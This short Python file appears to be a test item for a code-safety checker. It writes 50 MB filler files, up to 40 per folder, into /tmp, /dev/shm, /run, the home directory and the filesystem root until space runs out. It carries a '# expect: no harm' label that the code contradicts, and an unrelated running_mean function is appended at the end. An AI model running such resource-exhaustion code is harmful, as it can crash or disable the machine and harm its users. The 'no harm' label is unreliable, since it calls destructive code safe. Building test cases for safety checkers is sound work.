"""Writes to every folder that it can write to until nothing is left."""
# expect: no harm
# %%
import os

for folder in ("/tmp", "/dev/shm", "/var/tmp", os.getcwd(), os.path.expanduser("~"), "/run", "/dev/mqueue", "/"):
    for number in range(40):
        try:
            with open(f"{folder}/filler-{number}", "wb") as file:
                file.write(bytes(50 << 20))
        except OSError:
            break


def running_mean(signal, window):
    return signal.unfold(0, window, 1).mean(dim=1)
